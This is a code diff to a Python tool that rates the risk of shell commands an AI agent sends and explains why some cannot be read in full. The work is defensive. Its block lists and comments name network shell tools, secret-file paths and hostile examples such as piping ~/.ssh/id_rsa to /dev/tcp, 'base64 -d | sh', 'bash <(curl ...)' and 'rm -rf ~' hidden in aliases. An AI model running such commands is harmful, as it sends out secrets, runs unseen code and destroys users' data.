@@ -70,7 +70,9 @@ _PREFIXES: Final = frozenset(
     {
         "sudo", "doas", "env", "nohup", "nice", "ionice", "time", "command", "builtin",
         "exec", "timeout", "stdbuf", "xargs", "chroot", "unbuffer", "caffeinate", "then",
-        "do", "else", "!", "{", "(",
+        "do", "else", "!", "{", "(", "setsid", "fakeroot", "watch", "strace", "ltrace",
+        "firejail", "unshare", "proot", "chronic", "flatpak-spawn", "systemd-run", "npx",
+        "bunx", "pnpx", "uvx",
     }
 )  # fmt: skip
 _PREFIX_VALUE_OPTIONS: Final = {
@@ -79,7 +81,11 @@ _PREFIX_VALUE_OPTIONS: Final = {
     "ionice": frozenset({"-c", "-n", "-p"}),
     "timeout": frozenset({"-s", "-k", "--signal", "--kill-after"}),
     "xargs": frozenset({"-I", "-n", "-P", "-L", "-d", "-a", "-E", "-s"}),
-    "env": frozenset({"-u", "-C", "-S"}),
+    "env": frozenset({"-u", "-C"}),
+    "exec": frozenset({"-a"}),
+    "watch": frozenset({"-n", "-d", "--interval"}),
+    "npx": frozenset({"-p", "--package", "-c", "--call"}),
+    "uvx": frozenset({"--from", "--with", "-p", "--python"}),
 }
 _READ_ONLY: Final = frozenset(
     {
@@ -99,7 +105,10 @@ _NETWORK: Final = frozenset(
     {"curl", "wget", "nc", "ncat", "netcat", "socat", "scp", "sftp", "ftp", "rsync", "ssh",
      "telnet", "http", "https", "xh", "aria2c"}
 )  # fmt: skip
-_DELETERS: Final = frozenset({"rm", "rmdir", "unlink", "shred", "srm", "trash", "wipe"})
+_DELETERS: Final = frozenset(
+    {"rm", "rmdir", "unlink", "shred", "srm", "trash", "trash-put", "wipe", "rimraf", "del",
+     "rmtrash"}
+)  # fmt: skip
 _DISK_WRITERS: Final = frozenset({"mkfs", "wipefs", "fdisk", "sfdisk", "parted", "mkswap"})
 _POWER: Final = frozenset({"shutdown", "reboot", "halt", "poweroff"})
 # Places whose contents are secrets: sent anywhere, they are gone for good.
@@ -133,13 +142,88 @@ _LONG_OPTIONS: Final = {
     "--mirror": "f",
 }
 
+# -- what announcer cannot read in full (issue 29) ---------------------------------------
+# A command is judged by what it will do. When announcer cannot know that from the text,
+# the command is high risk, whatever its words look like: the list of tricks below is a
+# test of that rule, not the rule. Each code has a short "why" (:func:`why_sentences`).
+UNREADABLE: Final = (
+    "cut",  # not all of it was seen or checked
+    "hidden",  # invisible characters were taken out
+    "decoded",  # it runs text it decodes first ($'\x72m', base64 -d | sh)
+    "piped_program",  # a shell or interpreter runs text piped or fed into it
+    "runtime_name",  # the program is named by a variable or a substitution ($X, $(...))
+    "pattern_name",  # the program is a glob or a brace list (/bin/r?, {rm,-rf,~})
+    "strange_name",  # the program's name has characters no command name has
+    "one_liner",  # python -c, perl -e, node -e...: code announcer does not read
+    "alias",  # a command name defined on the same line (alias, git -c alias.x=!...)
+    "nested",  # substitutions nested deeper than announcer follows
+    "run_download",  # it runs what it downloads
+)
+_ANSI_C_ESCAPE: Final = re.compile(r"\$'[^']*\\")
+#: a program's name as a person types one; anything else is built, matched or disguised
+_PLAIN_NAME: Final = re.compile(r"^[A-Za-z0-9_.+@%:,-]+$")
+_GROUPING: Final = frozenset({"[", "[[", "]]", "!", "{", "}", ":", "."})
+_PYTHON: Final = re.compile(r"^(?:python|pypy)\d*(?:\.\d+)?$")
+# Interpreters of languages announcer does not read, and the options that take code.
+_CODE_OPTIONS: Final = {
+    "python": frozenset({"-c"}),
+    "perl": frozenset({"-e", "-E"}),
+    "ruby": frozenset({"-e"}),
+    "node": frozenset({"-e", "--eval", "-p", "--print"}),
+    "nodejs": frozenset({"-e", "--eval", "-p", "--print"}),
+    "bun": frozenset({"-e", "--eval", "-p", "--print"}),
+    "deno": frozenset({"eval"}),
+    "php": frozenset({"-r"}),
+    "lua": frozenset({"-e"}),
+    "pwsh": frozenset({"-c", "-command", "-encodedcommand", "-e", "-ec"}),
+    "powershell": frozenset({"-c", "-command", "-encodedcommand", "-e", "-ec"}),
+    "osascript": frozenset({"-e"}),
+    "rscript": frozenset({"-e"}),
+    "julia": frozenset({"-e", "--eval"}),
+    "tclsh": frozenset(),
+    "mongo": frozenset({"--eval"}),
+    "mongosh": frozenset({"--eval"}),
+}
+_AWKS: Final = frozenset({"awk", "gawk", "mawk", "nawk", "busybox-awk"})
+# Programs that turn their input into other text: piped into a shell, what runs was decoded.
+_DECODERS: Final = frozenset(
+    {"base64", "base32", "basenc", "xxd", "openssl", "gunzip", "zcat", "gzip", "bzip2",
+     "bunzip2", "xz", "unxz", "zstd", "uudecode", "rev", "tr", "iconv", "recode", "printf",
+     "echo", "sed", "awk", "perl", "python", "python3", "od", "dd", "tac", "cut"}
+)  # fmt: skip
+_REDIRECT: Final = re.compile(r"^[0-9]*(?:>|>>|>\||&>|&>>|>&)$")
+#: files that, overwritten or appended to, change what runs later or who gets in
+_SENSITIVE_FILE: Final = re.compile(
+    r"^(?:(?:~|\$HOME|\$\{HOME\}|/root|/home/[^/]+)/\.[^/]"
+    r"|/etc/|/boot/|/(?:usr|bin|sbin|lib|lib64|var/spool/cron)/)"
+    r"|authorized_keys|\.(?:bash|zsh)rc$|\.profile$|crontab"
+)
+_NETWORK_DEVICE: Final = re.compile(r"^/dev/(?:tcp|udp)/")
+# Destructive families said by a program's own subcommand (kubectl delete, terraform
+# destroy, docker system prune, npm publish, heroku apps:destroy, aws ec2 terminate-...).
+_DESTROY_WORDS: Final = frozenset(
+    {"delete", "destroy", "prune", "purge", "drop", "wipe", "erase", "nuke", "terminate",
+     "flushall", "flushdb", "dropdb", "dropuser", "undefine", "uninstall", "teardown"}
+)  # fmt: skip
+_PUBLISH_WORDS: Final = frozenset({"publish", "unpublish", "yank", "deprecate"})
+# Programs whose ``rm``, ``rmi``, ``rb`` or ``push`` subcommand deletes or publishes.
+_STORE_TOOLS: Final = frozenset(
+    {"docker", "podman", "nerdctl", "buildah", "ctr", "crictl", "aws", "gsutil", "gcloud",
+     "az", "lxc", "incus", "kubectl", "oc", "helm", "twine", "gem", "nuget", "dotnet", "rclone",
+     "s3cmd", "mc", "restic", "borg"}
+)  # fmt: skip
+_STORE_DELETE: Final = frozenset({"rm", "rmi", "rb", "remove", "rmdir", "purge", "cleanup"})
+_STORE_PUBLISH: Final = frozenset({"push", "upload"})
+
 
 @dataclass(frozen=True, slots=True)
 class CommandAnalysis:
     """A command as it will run, normalised, with what makes it dangerous."""
 
-    #: the command as the agent sent it (bounded)
+    #: the command as the agent sent it (bounded to :data:`MAX_COMMAND_CHARS`)
     original: str
+    #: its true length in characters, also when announcer was given or checked less
+    length: int
     #: what the shell will see, invisible characters out, compatibility forms folded
     normalised: str
     #: invisible characters taken out (zero-width, bidi...): the user is told
@@ -152,6 +236,16 @@ class CommandAnalysis:
     irreversible: bool
 
     @property
+    def cut(self) -> bool:
+        """Announcer did not see (or did not check) all of it: never read in full."""
+        return self.length > len(self.original)
+
+    @property
+    def unreadable(self) -> tuple[str, ...]:
+        """Why announcer cannot read it in full with confidence (codes, in a fixed order)."""
+        return tuple(code for code in UNREADABLE if code in self.reasons)
+
+    @property
     def lines(self) -> list[str]:
         """Its non-empty lines, each stripped."""
         return [line.strip() for line in self.normalised.split("\n") if line.strip()]
@@ -162,7 +256,7 @@ class CommandAnalysis:
         lines = self.lines
         if len(lines) > 1:
             return len(lines) > SHORT_LINES or len(self.normalised) > LONG_COMMAND_CHARS
-        return len(self.normalised) > LONG_COMMAND_CHARS
+        return self.cut or len(self.normalised) > LONG_COMMAND_CHARS
 
 
 def higher_risk(*risks: str | None) -> Risk:
@@ -199,9 +293,14 @@ def unwrap_shell(command: str) -> str:
 
 
 @lru_cache(maxsize=512)
-def analyse(command: str) -> CommandAnalysis:
-    """What ``command`` will do: normalised, cut into parts, each part judged."""
+def analyse(command: str, length: int | None = None) -> CommandAnalysis:
+    """What ``command`` will do: normalised, cut into parts, each part judged.
+
+    ``length`` is the command's true length when the caller was given only its start
+    (a hook client that had to cut it): a cut command is never read in full, so it is
+    high risk whatever its start says."""
     original = command[:MAX_COMMAND_CHARS]
+    true_length = max(len(command), length or 0)
     normalised, hidden = normalise(original)
     found = _Findings()
     _judge_script(normalised, found, depth=0)
@@ -209,13 +308,18 @@ def analyse(command: str) -> CommandAnalysis:
         found.add("sql_destructive", _around(normalised, _SQL_DESTRUCTIVE), irreversible=True)
     if _FORK_BOMB.search(normalised):
         found.add("fork_bomb", _around(normalised, _FORK_BOMB), irreversible=False)
+    if _ANSI_C_ESCAPE.search(normalised):  # $'\x72m': text the shell decodes before it runs
+        found.unreadable("decoded")
+    if true_length > len(original):
+        found.unreadable("cut")
+    if hidden:
+        found.unreadable("hidden")
     risk: Risk = "high" if found.parts or found.high else found.risk
-    if hidden and risk == "low":
-        risk = "medium"  # a hidden character in a command is never "low risk"
     if len([line for line in normalised.split("\n") if line.strip()]) > 1 and risk == "low":
         risk = "medium"
     return CommandAnalysis(
         original=original,
+        length=true_length,
         normalised=normalised.strip(),
         hidden=hidden,
         dangerous=tuple(dict.fromkeys(found.parts)),
@@ -277,6 +381,11 @@ class _Findings:
     def at_least(self, risk: Risk) -> None:
         self.risk = higher_risk(self.risk, risk)
 
+    def unreadable(self, reason: str) -> None:
+        """Announcer cannot read what will run: high risk, said with why."""
+        self.reasons.add(reason)
+        self.high = True
+
 
 def _around(text: str, pattern: re.Pattern[str]) -> str:
     match = pattern.search(text)
@@ -297,19 +406,37 @@ def _tokens(script: str) -> list[str]:
         return [word for part in rough for word in (part.split() if part != "\n" else [part])]
 
 
+_FED_PROGRAM: Final = re.compile(
+    r"(?:^|[\s;&|(])(?:source|\.|(?:\S*/)?(?:ba|z|da|k|fi)?sh|python[\d.]*|perl|ruby|node|php)"
+    r"\s+(?:-\S+\s+)*<\((?P<inner>[^()]*)\)"
+)
+_OPERATOR_ONLY: Final = re.compile(r"^[;&|()<>]+$")
+
+
 def _judge_script(script: str, found: _Findings, depth: int) -> None:
-    if depth > 4 or not script.strip():
+    if not script.strip():
+        return
+    if depth > 4:  # nested deeper than announcer follows: it cannot say what runs
+        found.unreadable("nested")
         return
     for inner in _SUBSTITUTION.finditer(script):
         _judge_script(next(g for g in inner.groups() if g is not None), found, depth + 1)
+    for fed in _FED_PROGRAM.finditer(script):  # bash <(curl ...), source <(...)
+        found.unreadable("piped_program")
+        if re.search(r"\b(?:curl|wget)\b", fed.group("inner")):
+            found.add("run_download", fed.group(0).strip(), irreversible=True)
     tokens = _tokens(script)
     pipeline: list[list[str]] = []
     current: list[str] = []
     for token in [*tokens, ";"]:
-        if token in _SEPARATORS or token in ("<", ">", ">>", "<<", ">&", "<&", ">|"):
-            if token in ("<", ">", ">>", "<<", ">&", "<&", ">|"):
-                current.append(token)
-                continue
+        if token in ("<", "<<", "<<<", "<&") or _REDIRECT.match(token):
+            current.append(token)
+            continue
+        if (
+            token in _SEPARATORS
+            or token == "()"
+            or (_OPERATOR_ONLY.match(token) and token not in _SEPARATORS)
+        ):
             if current:
                 pipeline.append(current)
             current = []
@@ -320,21 +447,86 @@ def _judge_script(script: str, found: _Findings, depth: int) -> None:
         current.append(token)
 
 
+def _redirects(words: list[str]) -> tuple[list[str], list[tuple[str, str]]]:
+    """``(the words without their redirections, [(operator, target)...])``."""
+    kept: list[str] = []
+    redirects: list[tuple[str, str]] = []
+    index = 0
+    while index < len(words):
+        word = words[index]
+        if word in ("<", "<<", "<<<", "<&") or _REDIRECT.match(word):
+            target = words[index + 1] if index + 1 < len(words) else ""
+            redirects.append((word.lstrip("0123456789"), target))
+            index += 2
+            continue
+        kept.append(word)
+        index += 1
+    if kept and kept[-1].isdigit() and redirects:  # "2>/dev/null" reads as "2", ">"
+        kept.pop()
+    return kept, redirects
+
+
 def _judge_pipeline(pipeline: list[list[str]], found: _Findings, depth: int) -> None:
     downloads = False
-    for words in pipeline:
+    decodes = False
+    for position, raw_words in enumerate(pipeline):
+        words, redirects = _redirects(raw_words)
         name, args = _command_of(words)
-        if not name:
-            continue
-        if (
-            downloads
-            and name in _INTERPRETERS
-            and not any(a.endswith((".py", ".sh")) for a in args)
-        ):
-            found.add("run_download", " | ".join(" ".join(w) for w in pipeline), irreversible=True)
+        fed = position > 0 or any(op in ("<", "<<", "<<<") for op, _ in redirects)
+        if name and fed and _reads_program_from_input(name, args):
+            # text piped or fed into a shell or interpreter: announcer cannot read it
+            found.unreadable("decoded" if decodes else "piped_program")
+            if downloads:
+                found.add("run_download", _joined(pipeline), irreversible=True)
         if name in ("curl", "wget"):
             downloads = True
-        _judge_command(name, args, words, found, depth)
+        if name in _DECODERS or _PYTHON.match(name):
+            decodes = decodes or _decodes(name, args)
+        _judge_redirects(name, args, words, redirects, found)
+        if name:
+            _judge_command(name, args, words, found, depth)
+
+
+def _joined(pipeline: list[list[str]]) -> str:
+    return " | ".join(" ".join(words) for words in pipeline)
+
+
+def _decodes(name: str, args: list[str]) -> bool:
+    """This program turns encoded text into other text (base64 -d, xxd -r, printf '\\x72')."""
+    flags = _flags(args)
+    if name in ("base64", "base32", "basenc", "uudecode"):
+        return "d" in flags or "D" in flags or "--decode" in flags or name == "uudecode"
+    if name == "xxd":
+        return "r" in flags
+    if name in ("printf", "echo"):
+        return any("\\" in arg for arg in args) or "e" in flags
+    if name in ("gzip", "bzip2", "xz", "zstd"):
+        return "d" in flags or "--decompress" in flags
+    if name == "openssl":
+        return "d" in flags or "base64" in args
+    return True  # rev, tr, iconv, gunzip, a one-liner...: what comes out is not what went in
+
+
+def _reads_program_from_input(name: str, args: list[str]) -> bool:
+    """A shell or interpreter given no program of its own: it runs what it reads."""
+    if name in _SHELLS or name in ("source", ".") or _interpreter(name):
+        operands = [a for a in args if not a.startswith("-") or a == "-"]
+        if name in ("source", "."):
+            return not operands or operands[0] in ("/dev/stdin", "-")
+        if not operands or operands[0] == "-" or "-s" in args:
+            return "-c" not in args and not any(
+                a in _CODE_OPTIONS.get(_interpreter(name), ()) for a in args
+            )
+    # at and batch run the commands they read, later
+    return name in ("at", "batch") and not any(a == "-f" for a in args)
+
+
+def _interpreter(name: str) -> str:
+    """The name :data:`_CODE_OPTIONS` knows an interpreter by, or ''."""
+    if _PYTHON.match(name):
+        return "python"
+    lowered = name.lower().removesuffix(".exe")
+    return lowered if lowered in _CODE_OPTIONS else ""
 
 
 def _command_of(words: list[str]) -> tuple[str, list[str]]:
@@ -346,6 +538,13 @@ def _command_of(words: list[str]) -> tuple[str, list[str]]:
             index += 1
             continue
         name = _basename(word)
+        if name == "function":  # function NAME { ...: its body is judged
+            index += 2
+            continue
+        if name == "env" and any(w in ("-S", "--split-string") for w in words[index:]):
+            at = next(i for i, w in enumerate(words) if w in ("-S", "--split-string"))
+            split = words[at + 1].split() if at + 1 < len(words) else []
+            return _command_of(split + words[at + 2 :])
         if name in _PREFIXES:
             values = _PREFIX_VALUE_OPTIONS.get(name, frozenset())
             index += 1
@@ -387,11 +586,39 @@ def _judge_command(
     elevated = any(_basename(w) in ("sudo", "doas") for w in words[:2])
     if elevated:
         found.add("as_administrator", part, irreversible=False)
-    if name in _SHELLS or name == "eval":
+    unreadable_name = _unreadable_name(name)
+    if unreadable_name:  # $X -rf ~, /bin/r? -rf ~, {rm,-rf,~}: what runs is not written here
+        found.unreadable(unreadable_name)
+        _judge_script(" ".join(args), found, depth + 1)
+        return
+    code = _interpreter(name)
+    if code and (
+        any(a.split("=", 1)[0].lower() in _CODE_OPTIONS[code] for a in args)
+        or (code == "deno" and args[:1] == ["eval"])
+    ):  # python -c, perl -e, node -e: code in a language announcer does not read
+        found.unreadable("one_liner")
+        return
+    if name in _AWKS and any(re.search(r"system|\|\s*getline|print[^;}]*>", a) for a in args):
+        found.unreadable("one_liner")  # awk 'BEGIN{system("...")}'
+        return
+    if name == "alias" and any("=" in a for a in args):
+        found.unreadable("alias")
+        for value in (a.split("=", 1)[1] for a in args if "=" in a):
+            _judge_script(value, found, depth + 1)
+        return
+    if name == "git" and any(a.startswith("alias.") and "=!" in a for a in args):
+        found.unreadable("alias")  # git -c alias.x='!rm -rf ~' x
+        return
+    if name == "eval":  # text put together when it runs
+        found.unreadable("runtime_name")
+        _judge_script(text, found, depth + 1)
+        return
+    if name == "busybox" and args and _basename(args[0]) not in _SHELLS:
+        _judge_command(_basename(args[0]), args[1:], args, found, depth + 1)  # busybox rm
+        return
+    if name in _SHELLS:
         script = ""
-        if name == "eval":
-            script = text
-        elif "-c" in args or any(a.startswith("-") and "c" in a[1:] for a in args[:2]):
+        if "-c" in args or any(a.startswith("-") and "c" in a[1:] for a in args[:2]):
             after = next(
                 (i for i, a in enumerate(args) if a.startswith("-") and "c" in a.lstrip("-")), -1
             )
@@ -440,25 +667,149 @@ def _judge_command(
     if name in ("chmod", "chown", "chgrp") and ("R" in _flags(args) or "r" in _flags(args)):
         found.add("permissions", part, irreversible=False)
         return
+    if name == "rsync" and any(a.startswith(("--delete", "--remove-source-files")) for a in args):
+        found.add("delete", part, irreversible=True)
+        return
     if name in _NETWORK:
         _judge_network(name, args, part, found)
         return
     if name in ("kill", "pkill", "killall"):
         found.at_least("medium")
         return
+    if name == "crontab" and not ({"l"} >= _flags(args) and _flags(args)):
+        # crontab -r deletes it; crontab FILE or - replaces it whole
+        found.add("delete" if "r" in _flags(args) else "overwrite", part, irreversible=True)
+        return
+    if name in ("tee", "cp", "mv", "install", "ln") and _overwrites(name, args, part, found):
+        return
+    family = _subcommand_family(name, args)
+    if family:
+        found.add(family, part, irreversible=True)
+        return
     if name in ("sed", "perl") and any(a.startswith("-i") or a.startswith("-pi") for a in args):
         found.at_least("medium")
         return
-    for index, word in enumerate(words[:-1]):
-        if word in (">", ">>", ">|") and re.match(
-            r"^/dev/(?:sd|nvme|disk|hd|mmcblk)", words[index + 1]
-        ):
-            found.add("overwrite_disk", part, irreversible=True)
-            return
-    writes = any(word in (">", ">>", ">|") for word in words)
-    if name in _READ_ONLY and not writes:
+    if name in _READ_ONLY:
         return
     found.at_least("medium")
+    _judge_wrapped(name, args, found, depth)
+
+
+# Package managers whose own ``rm`` takes a dependency out of a project (npm rm lodash).
+_PACKAGE_MANAGERS: Final = frozenset(
+    {"npm", "pnpm", "yarn", "bun", "cargo", "poetry", "uv", "pip", "pip3", "go", "dotnet",
+     "brew", "apt", "apt-get", "conda", "gem", "composer", "pipx"}
+)  # fmt: skip
+_RUNS_OTHERS: Final = (
+    _DELETERS | _DISK_WRITERS | _SHELLS | _POWER | frozenset({"dd", "eval", "truncate"})
+)
+
+
+#: programs whose quoted arguments are code of their own, never a shell command
+_OWN_LANGUAGE: Final = _AWKS | frozenset({"sed", "jq", "yq", "grep", "rg", "bc", "dc"})
+
+
+def _judge_wrapped(name: str, args: list[str], found: _Findings, depth: int) -> None:
+    """A program announcer does not know may run another (chrt 10 rm -rf ~, su -c '...'):
+    a known dangerous program among its words, or a command string, is judged as one."""
+    if name in _OWN_LANGUAGE or _interpreter(name):
+        return
+    for index, arg in enumerate(args):
+        if " " in arg.strip() or ";" in arg:  # su -c 'rm -rf ~', script -c '...'
+            _judge_script(arg, found, depth + 1)
+        elif (
+            _basename(arg) in _RUNS_OTHERS
+            and name not in _PACKAGE_MANAGERS
+            and index + 1 < len(args)
+        ):
+            _judge_command(_basename(arg), args[index + 1 :], args[index:], found, depth + 1)
+            return
+
+
+def _unreadable_name(name: str) -> str:
+    """Why a program's name cannot be read as written ('' when it can)."""
+    if _PLAIN_NAME.match(name) or name in _GROUPING:
+        return ""
+    if "$" in name or "`" in name or name == "{}":
+        return "runtime_name"  # $X, $a$b, rm${IFS}-rf, $(...), xargs' {}
+    if any(mark in name for mark in "*?[") or ("{" in name and ("," in name or ".." in name)):
+        return "pattern_name"  # the shell picks the program: /bin/r?, {rm,-rf,~}
+    return "strange_name"
+
+
+def _judge_redirects(
+    name: str,
+    args: list[str],
+    words: list[str],
+    redirects: list[tuple[str, str]],
+    found: _Findings,
+) -> None:
+    """What a command's redirections overwrite, empty or send away."""
+    part = " ".join(words + [f"{op} {target}" for op, target in redirects])
+    for op, target in redirects:
+        if not op.startswith((">", "&>")) or op == ">&":
+            continue
+        if target not in ("/dev/null", "/dev/stdout", "/dev/stderr"):
+            found.at_least("medium")  # it writes a file
+        if _DISK_DEVICE.match(target):
+            found.add("overwrite_disk", part, irreversible=True)
+        elif _NETWORK_DEVICE.match(target):  # cat ~/.ssh/id_rsa > /dev/tcp/host/port
+            secret = bool(_SECRET.search(part))
+            found.add("send_secret" if secret else "send_file", part, irreversible=True)
+        elif target.startswith("/dev/"):
+            continue  # /dev/null, /dev/stderr
+        elif _SENSITIVE_FILE.search(target):  # what runs at the next login, who gets in
+            found.add("overwrite", part, irreversible=op != ">>")
+        elif op != ">>" and (
+            not name
+            or name in (":", "true", "false")
+            or (name in ("echo", "printf") and not [a for a in args if not a.startswith("-")])
+            or (name == "cat" and args == ["/dev/null"])
+        ):  # : > file empties it
+            found.add("truncate", part, irreversible=True)
+
+
+def _overwrites(name: str, args: list[str], part: str, found: _Findings) -> bool:
+    """tee, cp, mv, install, ln onto a disk, a start-up file or from /dev/null."""
+    operands = [a for a in args if not a.startswith("-")]
+    targets = operands if name == "tee" else operands[-1:]
+    sources = [] if name == "tee" else operands[:-1]
+    if any(_DISK_DEVICE.match(t) for t in targets):
+        found.add("overwrite_disk", part, irreversible=True)
+        return True
+    if any(_SENSITIVE_FILE.search(t) for t in targets) or any(
+        s in ("/dev/null", "/dev/zero", "/dev/urandom") for s in sources
+    ):
+        found.add("overwrite", part, irreversible="a" not in _flags(args))
+        return True
+    return False
+
+
+def _subcommand_family(name: str, args: list[str]) -> str:
+    """``destroy`` or ``publish`` when a program's own subcommand says so, else ''."""
+    if name in _READ_ONLY or name == "git":
+        return ""
+    if name in _DESTROY_WORDS:  # dropdb
+        return "destroy"
+    operands = [a for a in args if not a.startswith("-")][:4]
+    long_options = [a.split("=", 1)[0] for a in args if a.startswith("--")]
+    words = {
+        piece.lower() for a in [*operands, *long_options] for piece in re.split(r"[:/_.\-]", a)
+    }
+    if name in _STORE_TOOLS and operands:
+        if operands[0] in _STORE_DELETE or (len(operands) > 1 and operands[1] in _STORE_DELETE):
+            return "destroy"
+        if operands[0] in _STORE_PUBLISH:
+            return "publish"
+    if (
+        words & _DESTROY_WORDS
+        or "-destroy" in args
+        or ("down" in operands and ({"v"} & _flags(args) or "--volumes" in args))
+    ):
+        return "destroy"
+    if words & _PUBLISH_WORDS:
+        return "publish"
+    return ""
 
 
 def _judge_git(args: list[str], part: str, found: _Findings) -> None:
@@ -561,17 +912,20 @@ def _edge(words: list[str]) -> str:
 
 
 def summary(analysis: CommandAnalysis, language: str = "en") -> str:
-    """About 20 words: length, start, end, every dangerous part, hidden characters.
+    """About 20 words: true length, start, end, every dangerous part, why it cannot be read.
 
+    A cut command's end is never said as its end: it was not seen.
     Not yet made speakable (the caller reads it with :func:`literal_for_speech`)."""
     tr = translator(language)
-    count = len(analysis.normalised)
+    count = analysis.length if analysis.cut else len(analysis.normalised)
     lines = analysis.lines
     parts = [
         tr.ngettext(
             "A long command, {count} character.", "A long command, {count} characters.", count
         ).format(count=format_integer(count, language))
     ]
+    if analysis.cut:
+        parts.append(_cut_sentence(analysis, language))
     if len(lines) > 1:
         parts.append(
             tr.ngettext("{count} line.", "{count} lines.", len(lines)).format(
@@ -582,15 +936,68 @@ def summary(analysis: CommandAnalysis, language: str = "en") -> str:
     start = words[:SUMMARY_EDGE_WORDS]
     end = words[-SUMMARY_EDGE_WORDS:] if len(words) > SUMMARY_EDGE_WORDS else []
     parts.append(tr.gettext("It starts: {start}").format(start=_edge(start)) + ".")
-    if end:
+    if end and not analysis.cut:
         parts.append(tr.gettext("It ends: {end}").format(end=_edge(end)) + ".")
-    parts += _dangerous_and_hidden(analysis, language, SUMMARY_PARTS)
+    parts += _warnings(analysis, language, SUMMARY_PARTS, cut=False)
     return " ".join(parts)
 
 
-def _dangerous_and_hidden(
-    analysis: CommandAnalysis, language: str, limit: int, *, spoken: bool = False
+def _cut_sentence(analysis: CommandAnalysis, language: str) -> str:
+    return (
+        translator(language)
+        .gettext("Only the first {shown} of its {total} characters were checked.")
+        .format(
+            shown=format_integer(len(analysis.original), language),
+            total=format_integer(analysis.length, language),
+        )
+    )
+
+
+def why_sentences(analysis: CommandAnalysis, language: str = "en") -> list[str]:
+    """Why announcer cannot read the command in full, a few words each (cut first)."""
+    tr = translator(language)
+    said: list[str] = []
+    for code in analysis.unreadable:
+        if code == "cut":
+            said.append(_cut_sentence(analysis, language))
+        elif code == "hidden":
+            said.append(
+                tr.ngettext(
+                    "It had {count} hidden character, taken out here.",
+                    "It had {count} hidden characters, taken out here.",
+                    analysis.hidden,
+                ).format(count=format_integer(analysis.hidden, language))
+            )
+        else:
+            said.append(tr.gettext(_WHY[code]))
+    return list(dict.fromkeys(said))
+
+
+N_ = str  # marks msgids for extraction (babel.cfg keywords); translated in why_sentences
+
+
+_WHY: Final = {
+    "decoded": N_("It runs text it decodes first."),
+    "piped_program": N_("It runs text piped into it."),
+    "runtime_name": N_("Its program is built when it runs."),
+    "pattern_name": N_("Its program is a pattern, not a name."),
+    "strange_name": N_("Its program name has unusual characters."),
+    "one_liner": N_("It runs code announcer cannot check."),
+    "alias": N_("It defines a command and runs it."),
+    "nested": N_("It nests commands too deep to check."),
+    "run_download": N_("It runs what it downloads."),
+}
+
+
+def _warnings(
+    analysis: CommandAnalysis,
+    language: str,
+    limit: int,
+    *,
+    spoken: bool = False,
+    cut: bool = True,
 ) -> list[str]:
+    """Every dangerous part (up to ``limit`` named), then why it cannot be read in full."""
     tr = translator(language)
     parts: list[str] = []
     dangerous = list(analysis.dangerous)
@@ -604,15 +1011,10 @@ def _dangerous_and_hidden(
                 count=format_integer(more, language)
             )
         parts.append(tr.gettext("Dangerous: {parts}").format(parts=named) + ".")
-    if analysis.hidden:
-        parts.append(
-            tr.ngettext(
-                "It had {count} hidden character, taken out here.",
-                "It had {count} hidden characters, taken out here.",
-                analysis.hidden,
-            ).format(count=format_integer(analysis.hidden, language))
-        )
-    return parts
+    why = why_sentences(analysis, language)
+    if not cut and analysis.cut:
+        why = why[1:]  # said already, with the length
+    return parts + why
 
 
 def in_question(analysis: CommandAnalysis, language: str = "en") -> str:
@@ -636,8 +1038,11 @@ def in_question(analysis: CommandAnalysis, language: str = "en") -> str:
         text = f"{text} {said}"
     else:
         text = lines[0] if lines else ""
-    extra = _dangerous_and_hidden(analysis, language, SUMMARY_PARTS) if analysis.hidden else []
-    return " ".join([text, *extra]).strip()
+    # a short command is read as written; why it cannot be trusted as read comes after it
+    why = why_sentences(analysis, language)
+    if why and text and not text.endswith((".", "?", "!")):
+        text += "."
+    return " ".join([text, *why]).strip()
 
 
 def whole_for_speech(analysis: CommandAnalysis, language: str = "en") -> str:
@@ -653,7 +1058,7 @@ def whole_for_speech(analysis: CommandAnalysis, language: str = "en") -> str:
             )
             for number, line in enumerate(lines, start=1)
         )
-    extra = _dangerous_and_hidden(analysis, language, len(analysis.dangerous) or 1, spoken=True)
+    extra = _warnings(analysis, language, len(analysis.dangerous) or 1, spoken=True)
     return clean_speech(" ".join([said, *extra])).strip()
 
 
@@ -669,4 +1074,5 @@ __all__ = [
     "summary",
     "unwrap_shell",
     "whole_for_speech",
+    "why_sentences",
 ]
